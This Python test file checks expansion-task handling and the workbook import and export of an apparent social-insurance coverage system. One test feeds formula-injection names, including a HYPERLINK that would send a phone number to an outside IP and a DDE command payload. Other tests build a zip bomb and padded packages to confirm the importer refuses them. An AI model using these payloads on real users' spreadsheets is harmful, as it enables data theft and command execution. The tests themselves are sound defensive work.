"""Expansion tasks: handed out per finding, updated (not duplicated) by a re-run, resolved when
no longer found, converted by a real enrolment, and worked by district officers — through the
service, the API and the field teams' workbook."""

from __future__ import annotations

import io
import zipfile

import openpyxl
import pytest
from sqlalchemy import select

from flexcover.coverage import expansion, service, workbook
from flexcover.coverage.models import ComparisonRun, ExpansionTask
from flexcover.coverage.problems import TaskClosed, TaskOutcomeInvalid, WorkbookInvalid
from flexcover.coverage.repository import TaskFilter
from flexcover.kit.audit import Actor
from flexcover.kit.pagination import PageRequest
from flexcover.kit.problems import Forbidden
from tests.conftest import count

YUZHONG, SHAPINGBA = "500103", "500106"


def officer(region: str = YUZHONG, role: str = "district_officer") -> Actor:
    return Actor(user_id=7, username=f"officer-{region}", role=role, region_code=region, source="t")


def finding(
    key: str,
    *,
    district: str = YUZHONG,
    klass: str = "never_insured",
    tags=(),
    name: str | None = None,
) -> expansion.Finding:
    return expansion.Finding(
        kind="person",
        finding_key=key,
        district_code=district,
        klass=klass,
        tags=expansion.tag_text(list(tags)),
        priority=1
        if "near_retirement_short" in tags
        else 2
        if "platform_no_pension" in tags
        else 3,
        action=expansion.ACTIONS[klass],
        channel="phone",
        name=name or f"人{key}",
        phone="13800138000",
        birth_date="1985-06-01",
        details={"evidence": []},
    )


def run_with(
    database, findings, *, jurisdiction: str = "500000"
) -> tuple[int, expansion.TaskChanges]:
    with database.unit_of_work() as session:
        run = ComparisonRun(
            as_of="2025-08",
            jurisdiction_code=jurisdiction,
            engine="duckdb",
            sources="test",
            status="done",
            started_by="test",
            counts={},
            report={},
        )
        session.add(run)
        session.flush()
        changes = expansion.hand_out(
            session, run_id=run.id, jurisdiction=jurisdiction, findings=findings
        )
        return run.id, changes


def tasks_of(session) -> dict[str, ExpansionTask]:
    session.expire_all()
    return {t.finding_key: t for t in session.scalars(select(ExpansionTask))}


def test_each_finding_becomes_one_task_with_priority_action_and_channel(database, session):
    _, changes = run_with(
        database,
        [
            finding("a", tags=("near_retirement_short",)),
            finding("b", klass="dropped", tags=("platform_worker", "platform_no_pension")),
            finding("c", klass="interrupted"),
        ],
    )
    assert changes == expansion.TaskChanges(issued=3, updated=0, resolved=0)
    tasks = tasks_of(session)
    assert [(k, t.priority, t.action, t.status) for k, t in sorted(tasks.items())] == [
        ("a", 1, "enrol_flexible", "issued"),
        ("b", 2, "restore_enrolment", "issued"),
        ("c", 3, "resume_payment", "issued"),
    ]
    assert tasks["b"].tags == ",platform_worker,platform_no_pension,"


def test_a_rerun_updates_open_tasks_and_resolves_those_no_longer_found(database, session):
    first, _ = run_with(database, [finding("a"), finding("b"), finding("c")])
    with database.unit_of_work() as work:
        service.record_outcome(
            work, officer(), task_id=tasks_of(session)["c"].id, outcome="contacted", reason=None
        )
    second, changes = run_with(
        database, [finding("a", klass="dropped"), finding("c"), finding("d")]
    )
    assert changes == expansion.TaskChanges(issued=1, updated=2, resolved=1)
    tasks = tasks_of(session)
    assert count(session, ExpansionTask) == 4
    assert (tasks["a"].klass, tasks["a"].first_run_id, tasks["a"].last_run_id) == (
        "dropped",
        first,
        second,
    )
    assert tasks["b"].status == "resolved"
    assert tasks["c"].status == "contacted"  # the officer's outcome survives the re-run
    assert tasks["d"].first_run_id == second


def test_a_district_run_resolves_nothing_outside_its_district(database, session):
    run_with(database, [finding("a"), finding("b", district=SHAPINGBA)])
    _, changes = run_with(database, [finding("a")], jurisdiction=YUZHONG)
    assert changes.resolved == 0
    assert tasks_of(session)["b"].status == "issued"


def test_an_enrolment_converts_the_persons_open_tasks(world, database, session):
    person_id, me = world.worker()
    from flexcover.registry.models import Person

    key = session.get(Person, person_id).id_hash
    run_with(database, [finding(key)])
    world.enrol(person_id, me)
    task = tasks_of(session)[key]
    assert task.status == "converted"
    assert task.converted_at is not None


def test_outcomes_are_checked(database, session):
    run_with(database, [finding("a"), finding("b")])
    tasks = tasks_of(session)
    with database.sessions() as work:
        with pytest.raises(TaskOutcomeInvalid) as refused:
            service.record_outcome(
                work, officer(), task_id=tasks["a"].id, outcome="not_applicable", reason=" "
            )
        assert refused.value.field == "reason"
        with pytest.raises(TaskOutcomeInvalid) as refused:
            service.record_outcome(
                work, officer(), task_id=tasks["a"].id, outcome="converted", reason=None
            )
        assert refused.value.field == "outcome"
        with pytest.raises(Forbidden):
            service.record_outcome(
                work, officer(SHAPINGBA), task_id=tasks["a"].id, outcome="contacted", reason=None
            )
        service.record_outcome(
            work, officer(), task_id=tasks["b"].id, outcome="not_applicable", reason="已在外省参保"
        )
        with pytest.raises(TaskClosed):
            service.record_outcome(
                work, officer(), task_id=tasks["b"].id, outcome="contacted", reason=None
            )


def test_officers_see_only_their_region(database, session):
    run_with(database, [finding("a"), finding("b", district=SHAPINGBA)])
    with database.unit_of_work() as work:
        mine = service.tasks(work, officer(), TaskFilter(region=YUZHONG), PageRequest())
        city = service.tasks(
            work, officer("500100", "city_officer"), TaskFilter(region="500100"), PageRequest()
        )
        with pytest.raises(Forbidden):
            service.tasks(work, officer(), TaskFilter(region="500100"), PageRequest())
    assert [t.finding_key for t in mine.items] == ["a"]
    assert sorted(t.finding_key for t in city.items) == ["a", "b"]


def _filled(data: bytes, outcomes: dict[int, tuple[str, str | None]]) -> bytes:
    book = openpyxl.load_workbook(io.BytesIO(data))
    sheet = book["扩面任务"]
    for row in sheet.iter_rows(min_row=2):
        if row[0].value in outcomes:
            row[13].value, row[14].value = outcomes[row[0].value]
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def test_a_workbook_goes_out_and_comes_back_with_outcomes(database, session):
    run_with(database, [finding("a"), finding("b"), finding("c", district=SHAPINGBA)])
    tasks = tasks_of(session)
    with database.unit_of_work() as work:
        data = service.export_tasks(
            work, officer(), TaskFilter(region=YUZHONG, status="open"), actions={}
        )
    rows = list(openpyxl.load_workbook(io.BytesIO(data))["扩面任务"].iter_rows(values_only=True))
    assert rows[0][0] == "任务编号"
    assert sorted(r[0] for r in rows[1:]) == sorted([tasks["a"].id, tasks["b"].id])
    filled = _filled(data, {tasks["a"].id: ("已联系", None), tasks["b"].id: ("不适用", "已死亡")})
    with database.unit_of_work() as work:
        assert service.import_outcomes(work, officer(), filled) == 2
    tasks = tasks_of(session)
    assert (tasks["a"].status, tasks["b"].status, tasks["b"].outcome_reason) == (
        "contacted",
        "not_applicable",
        "已死亡",
    )


def test_one_wrong_row_refuses_the_whole_workbook(database, session):
    run_with(database, [finding("a"), finding("b"), finding("c", district=SHAPINGBA)])
    tasks = tasks_of(session)
    with database.unit_of_work() as work:
        data = service.export_tasks(
            work, officer("500100", "city_officer"), TaskFilter(region="500100"), actions={}
        )
    filled = _filled(
        data,
        {
            tasks["a"].id: ("已联系", None),
            tasks["b"].id: ("不适用", None),  # no reason
            tasks["c"].id: ("打过电话", None),  # not an outcome
        },
    )
    with database.sessions() as work:
        with pytest.raises(WorkbookInvalid) as refused:
            service.import_outcomes(work, officer(), filled)  # c is not this officer's either
        work.rollback()
    message = refused.value.message("en")
    assert refused.value.params["count"] == 2
    assert "line 3" in message
    assert "line 4" in message
    assert all(t.status == "issued" for t in tasks_of(session).values())


def test_a_file_that_is_not_a_workbook_is_refused(database):
    with database.sessions() as work, pytest.raises(WorkbookInvalid):
        service.import_outcomes(work, officer(), b"not excel")


def test_names_that_look_like_formulas_leave_the_workbook_as_text(database, session):
    """A name in a departmental file such as =HYPERLINK(...) must not become a live formula in
    the officer's Excel (it could send the row's phone number away)."""
    hostile = {
        "a": '=HYPERLINK("http://203.0.113.9/?p="&K2,"点击")',
        "b": "+cmd|' /C calc'!A0",
        "c": "-2+3",
        "d": "@SUM(1)",
    }
    run_with(database, [finding(key, name=name) for key, name in hostile.items()])
    with database.unit_of_work() as work:
        data = service.export_tasks(work, officer(), TaskFilter(region=YUZHONG), actions={})
    sheet = openpyxl.load_workbook(io.BytesIO(data))["扩面任务"]
    cells = {row[9].value: row[9] for row in sheet.iter_rows(min_row=2)}
    assert set(cells) == set(hostile.values())  # kept exactly as given ...
    for cell in cells.values():
        assert cell.data_type == "s"  # ... as text, never a formula
        assert cell.quotePrefix
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        assert b"<f>" not in package.read("xl/worksheets/sheet1.xml")


def test_a_workbook_that_inflates_past_its_bound_is_refused_before_parsing(database):
    """588 KB of one repeated character inflates to hundreds of MB: refused from the zip's own
    directory, before openpyxl sees it."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", "<Types/>")
        with package.open("xl/sharedStrings.xml", "w") as part:
            chunk = b"A" * (1024 * 1024)
            for _ in range(workbook.MAX_INFLATED_BYTES // len(chunk) + 1):
                part.write(chunk)
    data = out.getvalue()
    assert len(data) < 1024 * 1024
    with database.sessions() as work, pytest.raises(WorkbookInvalid) as refused:
        service.import_outcomes(work, officer(), data)
    assert "inflate" in refused.value.message("en")


def test_a_workbook_of_more_parts_than_an_export_has_is_refused_before_parsing(database, session):
    """An exported workbook with 200 extra parts appended: openpyxl would read it, but the
    package is refused from its directory alone and no outcome is recorded."""
    run_with(database, [finding("a")])
    task = tasks_of(session)["a"]
    with database.unit_of_work() as work:
        data = service.export_tasks(work, officer(), TaskFilter(region=YUZHONG), actions={})
    out = io.BytesIO(_filled(data, {task.id: ("已联系", None)}))
    with zipfile.ZipFile(out, "a") as package:
        for number in range(workbook.MAX_PARTS):
            package.writestr(f"customXml/item{number}.xml", "<x/>")
    with database.sessions() as work, pytest.raises(WorkbookInvalid) as refused:
        service.import_outcomes(work, officer(), out.getvalue())
    [(line, reason)] = refused.value.lines("en")
    assert line == 0  # the file, not a row
    assert "parts" in reason
    assert tasks_of(session)["a"].status == task.status


def test_a_workbook_over_the_row_limit_is_refused_and_read_no_further(
    database, session, monkeypatch
):
    """With a limit of 3 rows, line 5 is the first past it: the refusal names the limit, and
    the last line (not an outcome) is never read."""
    monkeypatch.setattr(workbook, "MAX_ROWS", 3)
    run_with(database, [finding(key) for key in "abcde"])
    tasks = tasks_of(session)
    with database.unit_of_work() as work:
        data = service.export_tasks(work, officer(), TaskFilter(region=YUZHONG), actions={})
    filled = _filled(data, {t.id: ("已联系", None) for t in tasks.values()})
    book = openpyxl.load_workbook(io.BytesIO(filled))
    book["扩面任务"].append([tasks["a"].id] + [None] * 12 + ["打过电话"])
    out = io.BytesIO()
    book.save(out)
    with database.sessions() as work, pytest.raises(WorkbookInvalid) as refused:
        service.import_outcomes(work, officer(), out.getvalue())
    assert refused.value.lines("en") == [(5, "more than 3 rows")]
    assert all(t.status == "issued" for t in tasks_of(session).values())


def test_workbook_uploads_are_parsed_off_the_event_loop():
    """Both import routes are plain functions, which FastAPI runs in its thread pool: a large
    workbook no longer freezes every other request while it is parsed."""
    import inspect

    from flexcover.coverage import api, pages

    assert not inspect.iscoroutinefunction(api.import_outcomes)
    assert not inspect.iscoroutinefunction(pages.import_outcomes)


def test_a_task_number_past_the_databases_integers_is_a_wrong_row(database, session):
    run_with(database, [finding("a")])
    task = tasks_of(session)["a"]
    with database.unit_of_work() as work:
        data = service.export_tasks(work, officer(), TaskFilter(region=YUZHONG), actions={})
    book = openpyxl.load_workbook(io.BytesIO(data))
    row = next(book["扩面任务"].iter_rows(min_row=2))
    row[0].value, row[13].value = 99999999999999999999, "已联系"
    out = io.BytesIO()
    book.save(out)
    with database.sessions() as work, pytest.raises(WorkbookInvalid) as refused:
        service.import_outcomes(work, officer(), out.getvalue())
    assert "line 2" in refused.value.message("en")
    assert tasks_of(session)["a"].status == task.status
